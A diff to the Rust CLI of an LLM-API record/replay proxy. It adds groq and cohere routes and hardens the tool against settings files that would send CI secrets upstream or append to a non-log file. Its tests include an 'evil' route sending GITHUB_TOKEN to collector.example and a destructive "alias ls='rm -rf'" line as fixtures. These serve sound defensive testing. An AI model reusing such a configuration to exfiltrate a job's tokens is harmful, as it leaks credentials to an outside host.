@@ -6,7 +6,7 @@
 //!
 //! # Routes
 //!
-//! Four routes always exist, so replay needs no flags at all:
+//! Six routes always exist, so replay needs no flags at all:
 //!
 //! | route       | mounted at     | upstream by default                          | key from |
 //! |-------------|----------------|----------------------------------------------|----------|
@@ -14,6 +14,8 @@
 //! | `anthropic` | `/anthropic/…` | `https://api.anthropic.com`                  | `ANTHROPIC_API_KEY` |
 //! | `ollama`    | `/ollama/…`    | `http://127.0.0.1:11434`                     | none |
 //! | `gemini`    | `/gemini/…`    | `https://generativelanguage.googleapis.com`  | `GEMINI_API_KEY`, else `GOOGLE_API_KEY` (`x-goog-api-key`) |
+//! | `groq`      | `/groq/…`      | `https://api.groq.com` (the groq SDK joins `/openai/v1/...`) | `GROQ_API_KEY` |
+//! | `cohere`    | `/cohere/…`    | `https://api.cohere.com`                     | `CO_API_KEY`, else `COHERE_API_KEY` |
 //!
 //! `[routes.NAME]` in the file sets a route's upstream, key variable and auth style, or mounts
 //! a new one; `--route NAME=URL` replaces an upstream or mounts a new route. A route named
@@ -35,7 +37,7 @@ use cassette_recorder::{
 };
 use cassette_store::readonly::ReadOnlyStore;
 use cassette_store::DynStore;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::Arc;
 use std::time::Duration;
 
@@ -47,6 +49,8 @@ pub(crate) const BUILT_IN_ROUTES: &[(&str, &str)] = &[
     ("anthropic", "https://api.anthropic.com"),
     ("ollama", "http://127.0.0.1:11434"),
     ("gemini", "https://generativelanguage.googleapis.com"),
+    ("groq", "https://api.groq.com"),
+    ("cohere", "https://api.cohere.com"),
 ];
 
 /// Whether a route exists without being configured.
@@ -65,6 +69,8 @@ pub(crate) fn built_in_key_sources(route: &str) -> &'static [&'static str] {
         "anthropic" => &["ANTHROPIC_API_KEY"],
         "gemini" => &["GEMINI_API_KEY", "GOOGLE_API_KEY"],
         "azure" => &["AZURE_OPENAI_API_KEY"],
+        "groq" => &["GROQ_API_KEY"],
+        "cohere" => &["CO_API_KEY", "COHERE_API_KEY"],
         _ => &[],
     }
 }
@@ -92,7 +98,7 @@ pub(crate) struct RecorderArgs {
     upstream: Option<String>,
 
     /// Mount a route: requests to /NAME/... go to URL with the /NAME prefix stripped, and NAME
-    /// is the key's target. Repeatable; replaces the built-in anthropic, ollama and gemini upstreams.
+    /// is the key's target. Repeatable; replaces the built-in anthropic, ollama, gemini, groq and cohere upstreams.
     #[arg(long = "route", value_name = "NAME=URL", value_parser = parse_route)]
     routes: Vec<Route>,
 
@@ -148,6 +154,17 @@ pub(crate) struct RecorderArgs {
     #[arg(long, env = "CASSETTE_UPSTREAM_TIMEOUT", value_name = "SECONDS")]
     upstream_timeout: Option<u64>,
 
+    /// Let a route's `api_key_env` in cassette.toml name this variable although it does not
+    /// look like an API key's (`*_KEY`): the file alone cannot send any variable upstream.
+    /// Repeatable; the variable takes a comma-separated list.
+    #[arg(
+        long = "allow-key-env",
+        env = "CASSETTE_ALLOW_KEY_ENV",
+        value_name = "VAR",
+        value_delimiter = ','
+    )]
+    allow_key_env: Vec<String>,
+
     /// same (every repeat of a request gets its one answer) or sequence (the n-th time a
     /// request is sent in this session gets its n-th recording; one more than recorded is a
     /// miss) [default: same].
@@ -197,6 +214,12 @@ impl RecorderArgs {
     /// defaults and validates everything that spans several settings; no IO but reading the
     /// environment variables that hold the routes' keys.
     pub(crate) fn resolve(&self, file: &SettingsFile) -> anyhow::Result<RecorderSettings> {
+        self.resolve_in(file, Ci::from_env())
+    }
+
+    /// [`RecorderArgs::resolve`], told whether this runs under CI.
+    fn resolve_in(&self, file: &SettingsFile, ci: Ci) -> anyhow::Result<RecorderSettings> {
+        let mode = self.mode(file, ci)?;
         let store = self.store.resolve(file);
         let cache = self.cache.clone().or_else(|| file.cache.clone());
         if let Some(cache) = &cache {
@@ -211,16 +234,16 @@ impl RecorderArgs {
         } else {
             self.record_errors || file.record_errors.unwrap_or(false)
         };
-        let (routes, keys) = self.routes(file)?;
+        let (routes, keys) = self.routes(file, mode)?;
         let config = RecorderConfig {
-            mode: self.mode.or(file.mode).unwrap_or_default(),
+            mode,
             routes,
             errors: if record_errors {
                 ErrorRecording::Record
             } else {
                 ErrorRecording::PassThrough
             },
-            key: self.keying.config(file),
+            key: self.keying.config(file)?,
             redaction: RedactionRules {
                 json_paths: [&file.redact_paths[..], &self.redact_paths[..]].concat(),
                 patterns: [&file.redact_patterns[..], &self.redact_patterns[..]].concat(),
@@ -260,9 +283,39 @@ impl RecorderArgs {
         })
     }
 
+    /// The mode: the flag or `CASSETTE_MODE`, else the file's, else replay. Under CI a mode
+    /// that calls an upstream must come from the command line or the environment: a settings
+    /// file checked in by anyone (a pull request) would otherwise turn a replay job into one
+    /// that sends the job's keys out.
+    fn mode(&self, file: &SettingsFile, ci: Ci) -> anyhow::Result<Mode> {
+        if let Some(mode) = self.mode {
+            return Ok(mode);
+        }
+        let Some(mode) = file.mode else {
+            return Ok(Mode::default());
+        };
+        if ci == Ci::Yes && mode.may_call_upstream() {
+            bail!(
+                "{} sets mode = \"{mode}\", and under CI (the CI variable is set) a settings file \
+                 alone never turns replay into a mode that calls an upstream: set \
+                 CASSETTE_MODE={mode} (or --mode {mode}) in the CI job if it is meant to call \
+                 one, or take `mode` out of the file",
+                file.path
+                    .as_deref()
+                    .map_or("the settings file".into(), |p| p.display().to_string())
+            );
+        }
+        Ok(mode)
+    }
+
     /// The routes: the built-ins, the file's `[routes.NAME]`, `--upstream`/`UPSTREAM_BASE`,
-    /// then `--route` overrides; each with its key read from the environment.
-    fn routes(&self, file: &SettingsFile) -> anyhow::Result<(Vec<Route>, Vec<RouteKey>)> {
+    /// then `--route` overrides; each with its key read from the environment. Key variables
+    /// are checked only when the mode may call an upstream: replay never sends a key.
+    fn routes(
+        &self,
+        file: &SettingsFile,
+        mode: Mode,
+    ) -> anyhow::Result<(Vec<Route>, Vec<RouteKey>)> {
         let mut routes: Vec<Route> = std::iter::once((DEFAULT_TARGET, DEFAULT_UPSTREAM))
             .chain(BUILT_IN_ROUTES.iter().copied())
             .map(|(name, base_url)| Route::new(name, base_url))
@@ -301,9 +354,66 @@ impl RecorderArgs {
                 None => routes.push((*given).clone()),
             }
         }
+        if mode.may_call_upstream() {
+            self.check_key_variables(file)?;
+        }
         let keys = read_keys(&mut routes, file);
         Ok((routes, keys))
     }
+
+    /// Refuses an `api_key_env` of the file that names a variable of no API key's shape unless
+    /// the command line or environment allows it: a file must not be able to send
+    /// `GITHUB_TOKEN` (or any other secret of the job) to an upstream it names.
+    fn check_key_variables(&self, file: &SettingsFile) -> anyhow::Result<()> {
+        for route in &file.routes {
+            let Some(Some(var)) = &route.api_key_env else {
+                continue;
+            };
+            if is_key_shaped(var) || self.allow_key_env.iter().any(|a| a.trim() == var) {
+                continue;
+            }
+            bail!(
+                "{}: [routes.{}] api_key_env = \"{var}\" does not name an API-key variable of a \
+                 known shape (*_API_KEY, *_KEY or a built-in one), and a settings file alone \
+                 never sends another variable's value upstream; allow it with --allow-key-env \
+                 {var} or CASSETTE_ALLOW_KEY_ENV={var}, or rename the variable",
+                file.path
+                    .as_deref()
+                    .map_or("the settings file".into(), |p| p.display().to_string()),
+                route.name
+            );
+        }
+        Ok(())
+    }
+}
+
+/// Whether the environment says this runs under CI (`CI` set to anything but empty, `0` or
+/// `false`, as GitHub Actions, GitLab, CircleCI, Buildkite and others set it).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Ci {
+    Yes,
+    No,
+}
+
+impl Ci {
+    fn from_env() -> Ci {
+        match std::env::var("CI") {
+            Ok(v) if !matches!(v.trim().to_ascii_lowercase().as_str(), "" | "0" | "false") => {
+                Ci::Yes
+            }
+            _ => Ci::No,
+        }
+    }
+}
+
+/// Whether `var` looks like the name of an API key's variable: `*_KEY` (so `*_API_KEY`) or
+/// one of the built-in sources.
+fn is_key_shaped(var: &str) -> bool {
+    var.ends_with("_KEY")
+        || std::iter::once(DEFAULT_TARGET)
+            .chain(BUILT_IN_ROUTES.iter().map(|(n, _)| *n))
+            .chain(["azure"])
+            .any(|route| built_in_key_sources(route).contains(&var))
 }
 
 /// Gives each route its key from the environment: the first set variable among its sources.
@@ -369,7 +479,13 @@ impl RecorderSettings {
     /// Opens the store, with the cache in front when one is set. A cache that cannot be opened
     /// is bypassed with a warning: it only ever saves time.
     pub(crate) fn open_store(&self) -> anyhow::Result<DynStore> {
-        let remote = self.store.open()?;
+        // Replay only reads: a sled database on a full disk is read from a copy. A store that
+        // does not exist yet opens as ever, so replay reports misses rather than no store.
+        let exists = self.store.local_path().is_some_and(Path::exists);
+        let remote = match self.config.mode {
+            Mode::Replay if exists => self.store.open_for_reading()?,
+            _ => self.store.open()?,
+        };
         Ok(match &self.cache {
             None => remote,
             Some(cache) => cassette_store::tiered::with_cache(remote, cache.url()),
@@ -379,6 +495,9 @@ impl RecorderSettings {
     /// Opens the store and builds the recorder. In replay mode the store is wrapped read-only,
     /// so replay cannot write; in mode off it is not opened at all.
     pub(crate) fn build(self) -> anyhow::Result<Recorder> {
+        if let Some(log) = &self.usage_log {
+            check_usage_log(log)?;
+        }
         let store: DynStore = match self.config.mode {
             Mode::Replay => Arc::new(ReadOnlyStore::new(self.open_store()?)),
             // Mode off reads and writes nothing: opening the store would create its folder.
@@ -388,6 +507,59 @@ impl RecorderSettings {
         Recorder::with_usage_log(self.config, store, self.usage_log)
             .context("cannot build the recorder")
     }
+}
+
+/// How much of an existing usage log is read to tell whether it is one.
+const USAGE_LOG_PROBE: u64 = 64 << 10;
+
+/// Refuses to append keys to a file that is not a usage log: something other than a regular
+/// file (a FIFO would block, a device swallow), or a file whose lines are not keys (a
+/// `.bashrc` reached through a symlink). A missing or empty file becomes one.
+pub(crate) fn check_usage_log(path: &std::path::Path) -> anyhow::Result<()> {
+    use std::io::Read;
+    let meta = match std::fs::metadata(path) {
+        Ok(meta) => meta,
+        Err(err) if err.kind() == std::io::ErrorKind::NotFound => return Ok(()),
+        Err(err) => {
+            return Err(err)
+                .with_context(|| format!("cannot read the usage log {}", path.display()))
+        }
+    };
+    if !meta.is_file() {
+        bail!(
+            "the usage log {} is not a regular file; name a file that cassette may create or \
+             one it wrote before",
+            path.display()
+        );
+    }
+    let mut head = Vec::new();
+    std::fs::File::open(path)
+        .and_then(|f| f.take(USAGE_LOG_PROBE).read_to_end(&mut head))
+        .with_context(|| format!("cannot read the usage log {}", path.display()))?;
+    let lines: Vec<&[u8]> = head.split(|b| *b == b'\n').collect();
+    for (i, line) in lines.iter().enumerate() {
+        let line = String::from_utf8_lossy(line);
+        let line = line.trim();
+        // The last line may be a key still being written, or cut by the probe's end.
+        let last = i + 1 == lines.len();
+        let fits = line.is_empty()
+            || cassette_keying::Key::parse(line).is_some()
+            || (last && is_hex_prefix(line));
+        if !fits {
+            bail!(
+                "{} is not a usage log (line {} is not a cassette key), so no key is appended \
+                 to it; name a new file or one cassette wrote",
+                path.display(),
+                i + 1
+            );
+        }
+    }
+    Ok(())
+}
+
+/// Whether `line` could be the beginning of a key still being written.
+fn is_hex_prefix(line: &str) -> bool {
+    line.len() < 64 && line.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
 }
 
 #[cfg(test)]
@@ -447,7 +619,7 @@ auth = "query:key"
 
     #[test]
     fn the_file_fills_what_flags_leave_unset() {
-        let settings = parse(&[]).resolve(&file(TEAM_FILE)).unwrap();
+        let settings = parse(&[]).resolve_in(&file(TEAM_FILE), Ci::No).unwrap();
         let config = &settings.config;
         assert_eq!(config.mode, Mode::Auto);
         assert_eq!(settings.store.to_string(), "file:///team/tests/cassettes");
@@ -504,7 +676,7 @@ auth = "query:key"
             "--repeats",
             "same",
         ])
-        .resolve(&file(TEAM_FILE))
+        .resolve_in(&file(TEAM_FILE), Ci::No)
         .unwrap();
         let config = &settings.config;
         assert_eq!(config.mode, Mode::Replay);
@@ -523,6 +695,82 @@ auth = "query:key"
             config.route("default").unwrap().base_url,
             "http://127.0.0.1:8"
         );
+    }
+
+    #[test]
+    fn under_ci_the_file_alone_never_chooses_a_mode_that_calls_an_upstream() {
+        for mode in ["auto", "record", "off"] {
+            let file = file(&format!("mode = \"{mode}\"\n"));
+            let err = format!("{:#}", parse(&[]).resolve_in(&file, Ci::Yes).unwrap_err());
+            assert!(err.contains("/team/cassette.toml"), "{err}");
+            assert!(err.contains(&format!("CASSETTE_MODE={mode}")), "{err}");
+            assert!(err.contains("under CI"), "{err}");
+            // Outside CI the file decides; under CI the command line (or CASSETTE_MODE) does.
+            assert_eq!(
+                parse(&[])
+                    .resolve_in(&file, Ci::No)
+                    .unwrap()
+                    .config
+                    .mode
+                    .as_str(),
+                mode
+            );
+            let flagged = parse(&["--mode", mode]).resolve_in(&file, Ci::Yes).unwrap();
+            assert_eq!(flagged.config.mode.as_str(), mode);
+        }
+        let replay = file("mode = \"replay\"\n");
+        let settings = parse(&[]).resolve_in(&replay, Ci::Yes).unwrap();
+        assert_eq!(settings.config.mode, Mode::Replay);
+    }
+
+    #[test]
+    fn a_key_variable_of_no_known_shape_needs_the_command_lines_permission() {
+        let text = "[routes.evil]\nupstream = \"https://collector.example\"\napi_key_env = \"GITHUB_TOKEN\"\n";
+        let err = format!(
+            "{:#}",
+            parse(&["--mode", "auto"])
+                .resolve_in(&file(text), Ci::No)
+                .unwrap_err()
+        );
+        assert!(
+            err.contains("/team/cassette.toml: [routes.evil] api_key_env = \"GITHUB_TOKEN\""),
+            "{err}"
+        );
+        assert!(
+            err.contains("--allow-key-env GITHUB_TOKEN")
+                && err.contains("CASSETTE_ALLOW_KEY_ENV=GITHUB_TOKEN"),
+            "{err}"
+        );
+        // The file cannot allow it itself: there is no such key.
+        let with_allow = format!("allow_key_env = [\"GITHUB_TOKEN\"]\n{text}");
+        assert!(
+            SettingsFile::parse(std::path::Path::new("/t/cassette.toml"), &with_allow).is_err()
+        );
+        // The command line can.
+        let settings = parse(&["--mode", "auto", "--allow-key-env", "GITHUB_TOKEN"])
+            .resolve_in(&file(text), Ci::No)
+            .unwrap();
+        let evil = settings.keys.iter().find(|k| k.route == "evil").unwrap();
+        assert_eq!(evil.sources, ["GITHUB_TOKEN"]);
+        // Replay sends no key anywhere, so it is not refused there.
+        assert!(parse(&[]).resolve_in(&file(text), Ci::No).is_ok());
+        // Key-shaped names and the built-in sources pass.
+        for var in [
+            "ACME_LLM_KEY",
+            "ACME_API_KEY",
+            "OPENAI_API_KEY",
+            "GOOGLE_API_KEY",
+        ] {
+            let text = format!(
+                "[routes.acme]\nupstream = \"https://x.example\"\napi_key_env = \"{var}\"\n"
+            );
+            assert!(
+                parse(&["--mode", "record"])
+                    .resolve_in(&file(&text), Ci::No)
+                    .is_ok(),
+                "{var}"
+            );
+        }
     }
 
     #[test]
@@ -548,7 +796,9 @@ auth = "query:key"
                 ("default", "UPSTREAM_API_KEY,OPENAI_API_KEY".to_owned()),
                 ("anthropic", "ANTHROPIC_API_KEY".to_owned()),
                 ("ollama", String::new()),
-                ("gemini", "GEMINI_API_KEY,GOOGLE_API_KEY".to_owned())
+                ("gemini", "GEMINI_API_KEY,GOOGLE_API_KEY".to_owned()),
+                ("groq", "GROQ_API_KEY".to_owned()),
+                ("cohere", "CO_API_KEY,COHERE_API_KEY".to_owned())
             ]
         );
     }
@@ -679,5 +929,37 @@ auth = "query:key"
             err.contains("--cache") && err.contains("store itself"),
             "{err}"
         );
+    }
+
+    #[test]
+    fn keys_are_appended_only_to_a_usage_log() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = |name: &str| dir.path().join(name);
+        // Missing, empty, or keys only (the last line possibly half written): a usage log.
+        assert!(check_usage_log(&path("new.log")).is_ok());
+        std::fs::write(path("empty.log"), "").unwrap();
+        assert!(check_usage_log(&path("empty.log")).is_ok());
+        let key = "ab".repeat(32);
+        std::fs::write(path("used.log"), format!("{key}\n{key}\n\nabab")).unwrap();
+        assert!(check_usage_log(&path("used.log")).is_ok());
+        // Anything else is refused, naming the file.
+        std::fs::write(path(".bashrc"), "export PATH=$HOME/bin:$PATH\n").unwrap();
+        std::fs::write(path("half.log"), format!("{key}\nalias ls='rm -rf'")).unwrap();
+        std::fs::create_dir(path("dir")).unwrap();
+        for name in [".bashrc", "half.log", "dir"] {
+            let err = format!("{:#}", check_usage_log(&path(name)).unwrap_err());
+            assert!(err.contains(&path(name).display().to_string()), "{err}");
+        }
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink(path(".bashrc"), path("link.log")).unwrap();
+            let err = format!("{:#}", check_usage_log(&path("link.log")).unwrap_err());
+            assert!(err.contains("not a usage log"), "{err}");
+            let err = format!(
+                "{:#}",
+                check_usage_log(std::path::Path::new("/dev/null")).unwrap_err()
+            );
+            assert!(err.contains("not a regular file"), "{err}");
+        }
     }
 }
